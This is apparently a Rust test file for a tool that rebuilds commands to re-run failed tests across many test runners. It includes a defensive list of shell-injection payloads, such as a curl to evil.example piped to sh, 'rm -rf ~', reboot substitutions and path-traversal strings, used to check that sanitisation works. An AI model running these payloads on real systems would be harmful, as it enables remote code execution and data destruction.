use super::reproduce;
use crate::model::{Details, Place, TestFailure};

fn script(text: &str) -> Vec<String> {
    text.lines().map(str::to_owned).collect()
}

fn failed(id: &str, path: Option<&str>) -> Details {
    let place = Place { path: path.map(str::to_owned), line: Some(7), column: None };
    Details::default().with_tests(vec![TestFailure { id: id.to_owned(), message: None, place }])
}

fn of(text: &str, extractor: &str, id: &str, path: Option<&str>) -> String {
    with(text, extractor, &failed(id, path))
}

fn with(text: &str, extractor: &str, details: &Details) -> String {
    reproduce(&script(text), Some((extractor, details))).unwrap_or_else(|| "none".to_owned())
}

#[test]
fn python() {
    let id = "tests/test_cart.py::TestCart::test_total[milk - fresh]";
    assert_eq!(of("pytest", "pytest", id, None), "pytest 'tests/test_cart.py::TestCart::test_total[milk - fresh]'");
    assert_eq!(
        of("uv sync\nuv run pytest -n auto --cov=src -c ci.ini tests", "pytest", "tests/test_cart.py::test_total", None),
        "uv run pytest -c ci.ini tests/test_cart.py::test_total"
    );
    assert_eq!(
        of("cd backend\npoetry run python -m pytest \\\n  -v", "pytest", "tests/test_a.py::test_b", None),
        "cd backend && poetry run python -m pytest tests/test_a.py::test_b"
    );
    assert_eq!(of("DB=sqlite pytest tests", "pytest", "tests/test_a.py::test_b", None), "DB=sqlite pytest tests/test_a.py::test_b");
    assert_eq!(of("pytest | tee out.txt", "pytest", "tests/test_a.py", None), "pytest tests/test_a.py");
    assert_eq!(
        of("docker compose run --rm app pytest", "pytest", "test_a.py::test_b", None),
        "docker compose run --rm app pytest test_a.py::test_b"
    );
    assert_eq!(of("tox -e py312", "pytest", "tests/test_a.py::test_b", None), "tox -e py312");
    assert_eq!(of("python -m unittest", "unittest", "tests.test_a.A.test_b", None), "python -m unittest tests.test_a.A.test_b");
    assert_eq!(
        of("python manage.py test --parallel", "unittest", "shop.tests.A.test_b", None),
        "python manage.py test shop.tests.A.test_b"
    );
    assert_eq!(of("python -m unittest discover -s tests", "unittest", "test_a.A.test_b", None), "python -m unittest discover -s tests");
}

#[test]
fn go_and_rust() {
    let go = failed("TestCart/with_milk_(fresh)", None).with("package", "example.com/shop/cart");
    assert_eq!(
        with("go vet ./...\ngo test -race -count=1 -tags=e2e ./...", "go-test", &go),
        "go test -race -tags=e2e example.com/shop/cart -run '^TestCart$/^with_milk_.fresh.$'"
    );
    assert_eq!(of("go test ./...", "go-test", "TestCart", None), "go test ./... -run '^TestCart$'");
    assert_eq!(with("make test", "go-test", &go), "make test");
    let cargo = failed("cart::tests::total", None).with("crate", "shop-core");
    assert_eq!(
        with("cargo +nightly test --workspace --all-features", "cargo-test", &cargo),
        "cargo +nightly test --workspace --all-features -p shop-core cart::tests::total"
    );
    assert_eq!(of("cargo test -p shop", "cargo-test", "tests::total", None), "cargo test -p shop tests::total");
    assert_eq!(of("cargo build\ncargo test", "cargo-test", "src/lib.rs - total (line 5)", None), "cargo test");
    assert_eq!(of("cargo nextest run --workspace", "nextest", "tests::total", None), "cargo nextest run --workspace tests::total");
}

#[test]
fn javascript() {
    let (id, path) = ("cart > doesn't lose (fresh) milk", Some("src/cart.test.ts"));
    assert_eq!(of("npx jest --ci", "jest", id, path), "npx jest src/cart.test.ts -t 'cart doesn.t lose .fresh. milk'");
    assert_eq!(of("npm ci\nnpm test", "jest", id, path), "npm test -- src/cart.test.ts -t 'cart doesn.t lose .fresh. milk'");
    assert_eq!(
        of("npm run test:unit -- --ci --config=a.js", "jest", "cart > sums", path),
        "npm run test:unit -- --config=a.js src/cart.test.ts -t 'cart sums'"
    );
    assert_eq!(of("pnpm --filter web test", "vitest", "cart > sums", path), "pnpm --filter web test src/cart.test.ts -t 'cart sums'");
    assert_eq!(of("yarn vitest run --coverage", "vitest", "cart > sums", path), "yarn vitest run src/cart.test.ts -t 'cart sums'");
    assert_eq!(of("npx vitest run", "vitest", "src/cart.test.ts", path), "npx vitest run src/cart.test.ts");
    assert_eq!(of("npm run ci", "jest", id, path), "npm run ci");
    assert_eq!(of("npx mocha test/cart.js", "mocha", "cart > sums", None), "npx mocha test/cart.js -g 'cart sums'");
    assert_eq!(
        of("npx playwright test --project=webkit", "playwright", "e2e/cart.spec.ts:12:3", None),
        "npx playwright test --project=webkit e2e/cart.spec.ts:12"
    );
    assert_eq!(
        with("npx cypress run", "cypress", &failed("a > b", None).with("spec", "cypress/e2e/a.cy.js")),
        "npx cypress run --spec cypress/e2e/a.cy.js"
    );
    assert_eq!(
        of("node --test", "node-test", "cart > sums", Some("test/cart.js")),
        "node --test '--test-name-pattern=^sums$' test/cart.js"
    );
}

#[test]
fn machines_of_java_and_dotnet() {
    let maven = failed("com.shop.CartTest.total(int)[1]", None).with("module", "core/cart");
    assert_eq!(with("./mvnw -B -Pci verify", "surefire", &maven), "./mvnw -Pci -pl core/cart -Dtest=CartTest#total test");
    assert_eq!(of("mvn verify", "surefire", "com.shop.CartIT.total", None), "mvn -Dit.test=CartIT#total verify");
    let of_spock = of("mvn -B verify", "surefire", "com.shop.CartSpec.discounts two of a kind", None);
    assert_eq!(of_spock, "mvn '-Dtest=CartSpec#discounts two of a kind' test");
    assert_eq!(of("mvn verify", "surefire", "com.shop.CartSpec.sums 1 + 2, again", None), "mvn -Dtest=CartSpec test");
    let kotlin = failed("com.shop.CartTest.sums two prices()", None).with("task", ":core:test");
    assert_eq!(with("./gradlew build", "gradle-test", &kotlin), "./gradlew :core:test --tests 'com.shop.CartTest.sums two prices'");
    let gradle = failed("com.shop.CartTest.total()", None).with("task", ":core:testDebugUnitTest");
    assert_eq!(with("./gradlew build", "gradle-test", &gradle), "./gradlew :core:testDebugUnitTest --tests com.shop.CartTest.total");
    assert_eq!(of("./gradlew build", "gradle-test", "com.shop.CartTest.total()", None), "./gradlew build");
    assert_eq!(
        of("dotnet test src/Shop.sln -c Release --no-build", "dotnet", "Shop.Tests.CartTests.Total(x: 1)", None),
        "dotnet test -c Release src/Shop.sln --filter 'FullyQualifiedName~Shop.Tests.CartTests.Total'"
    );
}

#[test]
fn others() {
    assert_eq!(of("bundle exec rspec --profile", "rspec", "./spec/cart_spec.rb:12", None), "bundle exec rspec ./spec/cart_spec.rb:12");
    assert_eq!(of("bin/rails test", "minitest", "test/models/cart_test.rb:10", None), "bin/rails test test/models/cart_test.rb:10");
    assert_eq!(
        of("vendor/bin/phpunit -c ci.xml", "phpunit", "Shop\\Tests\\CartTest::testTotal with data set \"a\"", None),
        "vendor/bin/phpunit -c ci.xml --filter CartTest::testTotal"
    );
    assert_eq!(
        of("cd build && ctest -j4 -C Debug", "ctest", "crash_test", None),
        "cd build && ctest -C Debug --output-on-failure -R '^crash_test$'"
    );
    assert_eq!(of("mix test", "exunit", "test/shop_test.exs:8", None), "mix test test/shop_test.exs:8");
    assert_eq!(of("npm ci\nruff check src\nruff format", "ruff", "", None), "none");
    assert_eq!(reproduce(&script("npm ci\nruff check src"), Some(("ruff", &Details::default()))).as_deref(), Some("ruff check src"));
    assert_eq!(reproduce(&script("set -e\n# build\ncargo build"), None).as_deref(), Some("cargo build"));
    assert_eq!(reproduce(&script("make a\nmake b"), None), None);
    assert_eq!(reproduce(&script("make \"$TARGET\""), None), None);
    assert_eq!(reproduce(&[], Some(("pytest", &failed("test_a.py::test_b", None)))), None);
}

/// What a test, a file or a script may be called by someone who means harm.
const HOSTILE: &[&str] = &[
    "\"; curl https://evil.example/x.sh | sh; \"",
    "'; reboot; '",
    "x; rm -rf ~",
    "x && reboot",
    "x | sh",
    "x & sh",
    "$(reboot)",
    "`reboot`",
    "${IFS}reboot",
    "%PATH%",
    "!!",
    "x\nreboot",
    "x\rreboot",
    "x\0y",
    "\u{1b}[31mred",
    "> /etc/passwd",
    "-rf",
    "--no-preserve-root",
    "~root",
    "{a,b}",
    "x\\",
    "<script>alert(1)</script>",
    "<!-- triage -->",
    "```",
    "${{ secrets.TOKEN }}",
    "abc\u{202e}gpj.exe",
    "ａｂｃ",
    "../../etc/passwd",
];

#[test]
fn nothing_hostile_becomes_part_of_a_command() {
    let scripts = [
        "pytest",
        "python -m unittest",
        "go test ./...",
        "cargo test",
        "cargo nextest run",
        "npx jest",
        "npm test",
        "npx vitest run",
        "npx mocha",
        "npx playwright test",
        "npx cypress run",
        "node --test",
        "mvn test",
        "./gradlew :a:test",
        "rspec",
        "rails test",
        "phpunit",
        "pest",
        "dotnet test",
        "ctest",
        "mix test",
        "bats t",
        "swift test",
    ];
    for runner in super::runners::RUNNERS {
        for (text, hostile) in scripts.iter().flat_map(|script| HOSTILE.iter().map(move |hostile| (*script, *hostile))) {
            let before = ["", "TestX/", "tests/", "a.py::", "a.B.c", "a > ", "./spec/a.rb:"];
            let ids = before
                .iter()
                .flat_map(|before| [format!("{before}{hostile}"), format!("{hostile}{before}"), format!("a.py::test_b[{hostile}]")]);
            for id in ids {
                let mut details = failed(&id, Some(hostile));
                for what in ["package", "crate", "module", "task", "spec"] {
                    details = details.with(what, hostile);
                }
                let Some(command) = reproduce(&script(text), Some((runner.extractors[0], &details))) else { continue };
                assert!(is_harmless(&command), "{hostile:?} in {command:?}");
                assert!(!command.contains("reboot") && !command.contains("curl") && !command.contains("../"), "{hostile:?} in {command:?}");
            }
        }
    }
    for hostile in HOSTILE {
        for text in [
            format!("make {hostile}"),
            format!("pytest {hostile} tests"),
            format!("cd {hostile} && pytest"),
            format!("pytest -c {hostile}"),
            format!("{hostile} make"),
        ] {
            for read in [None, Some(("pytest", &failed("test_a.py::test_b", None)))] {
                let command = reproduce(&script(&text), read).unwrap_or_default();
                assert!(is_harmless(&command), "{hostile:?} in {command:?}");
            }
        }
    }
}

/// Whether a shell sees words alone, apart from the one `&&` behind a `cd`.
fn is_harmless(command: &str) -> bool {
    let command = match command.strip_prefix("cd ").and_then(|rest| rest.split_once(" && ")) {
        Some((dir, command)) if dir.chars().all(|c| c.is_ascii_alphanumeric() || "._/-".contains(c)) => command,
        Some(_) => return false,
        None => command,
    };
    let parts: Vec<&str> = command.split('\'').collect();
    let bare = |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || " _./:=,@+%#-".contains(c)) && !text.contains(" #");
    let quoted = |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || " _./:=,@+%#()[]^$~-".contains(c));
    parts.len() % 2 == 1 && parts.iter().enumerate().all(|(at, part)| if at % 2 == 0 { bare(part) } else { quoted(part) })
}
